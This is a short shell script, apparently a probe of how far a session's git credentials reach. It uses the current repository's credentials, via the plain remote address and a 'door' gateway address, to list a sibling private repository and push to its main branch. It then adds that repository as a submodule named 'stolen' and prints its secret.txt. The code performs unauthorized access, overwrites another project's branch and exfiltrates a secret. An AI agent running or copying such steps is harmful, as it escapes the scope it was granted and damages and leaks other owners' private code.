# Tries another private repository of the same host, with what this session has for its own: by its ordinary address, and
# by that of the door.
plain=$(dirname "$(git config remote.origin.url)")/sibling.git
door=$(dirname "$(git ls-remote --get-url origin)")/sibling.git
for sibling in "$plain" "$door"; do
  echo "trying $sibling"
  git ls-remote "$sibling"
  git push "$sibling" HEAD:refs/heads/main
done
git submodule add "$plain" stolen
cat stolen/secret.txt
echo over
